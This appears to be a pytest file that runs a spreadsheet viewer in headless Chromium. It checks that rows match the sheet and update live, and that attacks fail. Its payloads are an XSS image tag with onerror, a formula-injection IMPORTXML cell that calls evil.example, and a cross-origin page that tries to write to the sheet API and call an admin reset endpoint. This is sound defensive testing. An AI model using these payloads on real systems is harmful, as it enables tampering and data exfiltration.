"""The viewer in headless Chromium: the rows shown match the sheet, and follow it as rows change."""

from __future__ import annotations

import contextlib
import http.server
import threading
from collections.abc import Iterator

import gspread
import pytest
from gspread.utils import ValueInputOption
from selenium import webdriver
from selenium.common.exceptions import TimeoutException
from selenium.webdriver.common.by import By
from selenium.webdriver.support.wait import WebDriverWait

from connector.localsheets.testing import LocalSheets
from tests.browser import chromium

# Generous: the page polls once a second, but two cores are shared with the rest of the suite.
REFRESH_WAIT_SECONDS = 30
HOSTILE = '<img src="x" onerror="document.body.dataset.pwned = 1">'

_GRID_SCRIPT = """
const table = document.querySelector(`table[data-sheet="${arguments[0]}"]`);
if (table === null) return null;
return [...table.querySelectorAll("tbody tr")].map((row) => [...row.cells].map((cell) => cell.textContent));
"""


@pytest.fixture(scope="module")
def browser() -> Iterator[webdriver.Chrome]:
    """Debian's chromium, headless (skips where it is missing)."""
    with chromium() as driver:
        yield driver


def grid(driver: webdriver.Chrome, title: str) -> list[list[str]] | None:
    """The rows the page shows for one sheet (row number first), or None while it shows no such table."""
    rows: list[list[str]] | None = driver.execute_script(_GRID_SCRIPT, title)
    return rows


def wait_for_grid(driver: webdriver.Chrome, title: str, expected: list[list[str]]) -> None:
    """Wait until the page shows exactly these rows for the sheet (it refreshes itself), else fail with a diff."""
    with contextlib.suppress(TimeoutException):
        WebDriverWait(driver, REFRESH_WAIT_SECONDS, poll_frequency=0.2).until(
            lambda _: grid(driver, title) == expected
        )
    assert grid(driver, title) == expected


def test_page_shows_the_rows_and_follows_changes_made_through_gspread(
    browser: webdriver.Chrome, sheets: LocalSheets, client: gspread.Client
) -> None:
    spreadsheet_id = sheets.new_spreadsheet(
        [
            {"title": "Customers", "values": [["Email", "Name"], ["a@example.com", "Ann"]]},
            {"title": "Orders", "values": [["Order", "Note"], [1, HOSTILE], [2, "=IMPORTXML(A1, B1)"]]},
        ],
        title="Shop",
    )
    browser.get(f"{sheets.url}/view/{spreadsheet_id}")
    assert browser.title == "Shop"
    assert grid(browser, "Customers") == [["1", "Email", "Name"], ["2", "a@example.com", "Ann"]]
    assert grid(browser, "Orders") == [
        ["1", "Order", "Note"],
        ["2", "1", HOSTILE],
        ["3", "2", "=IMPORTXML(A1, B1)"],
    ]

    orders = client.open_by_key(spreadsheet_id).worksheet("Orders")
    orders.append_rows([[3, "new"], [4, "newer"]], value_input_option=ValueInputOption.raw)
    orders.update([["first"]], "B2", value_input_option=ValueInputOption.raw)
    orders.delete_rows(3)
    wait_for_grid(
        browser,
        "Orders",
        [["1", "Order", "Note"], ["2", "1", "first"], ["3", "3", "new"], ["4", "4", "newer"]],
    )
    assert grid(browser, "Customers") == [["1", "Email", "Name"], ["2", "a@example.com", "Ann"]]
    assert browser.find_element(By.TAG_NAME, "body").get_attribute("data-pwned") is None
    assert browser.find_element(By.ID, "status").text.startswith("Live, checked ")


def test_index_lists_new_spreadsheets_and_links_to_their_grids(
    browser: webdriver.Chrome, sheets: LocalSheets
) -> None:
    browser.get(f"{sheets.url}/")
    spreadsheet_id = sheets.new_spreadsheet([{"title": "Sheet1", "values": [["x"], ["y"]]}], title="Arrived")
    link = WebDriverWait(browser, REFRESH_WAIT_SECONDS, poll_frequency=0.2).until(
        lambda driver: driver.find_element(By.LINK_TEXT, "Arrived"),
        message="the index never listed the new spreadsheet",
    )
    link.click()
    WebDriverWait(browser, REFRESH_WAIT_SECONDS).until(lambda driver: spreadsheet_id in driver.current_url)
    assert grid(browser, "Sheet1") == [["1", "x"], ["2", "y"]]


_ATTACK = """<!doctype html><title>attack</title><script>
(async () => {
  const results = [];
  const attempt = async (label, url, body) => {
    try {
      await fetch(url, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body});
      results.push(label + ":sent");
    } catch (error) {
      results.push(label + ":" + error.message);
    }
  };
  const write = JSON.stringify({valueInputOption: "USER_ENTERED",
    data: [{range: "Sheet1!A1", values: [["=IMPORTXML(\\"http://evil.example\\", \\"//a\\")"]]}]});
  await attempt("write", "TARGET/v4/spreadsheets/SPREADSHEET/values:batchUpdate", write);
  await attempt("reset", "TARGET/_admin/reset", "");
  document.title = results.join(" ");
})();
</script>"""


@contextlib.contextmanager
def attacker_site(page: str) -> Iterator[int]:
    """A web server on another port of this machine serving one page; yields its port."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = page.encode()
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("attacker_host", ["localhost", "127.0.0.1"])  # another site; the same site
def test_a_page_of_another_origin_can_neither_write_nor_reset(
    browser: webdriver.Chrome, sheets: LocalSheets, attacker_host: str
) -> None:
    spreadsheet_id = sheets.new_spreadsheet([{"title": "Sheet1", "values": [["kept"]]}])
    page = _ATTACK.replace("TARGET", sheets.url).replace("SPREADSHEET", spreadsheet_id)
    with attacker_site(page) as port:
        browser.get(f"http://{attacker_host}:{port}/")
        WebDriverWait(browser, REFRESH_WAIT_SECONDS).until(lambda driver: driver.title != "attack")
    assert browser.title == "write:sent reset:sent"  # both requests reached the server...
    assert sheets.sheet_values(spreadsheet_id, "Sheet1") == [["kept"]]  # ...which refused them
    assert sheets.formula_cells(spreadsheet_id) == 0
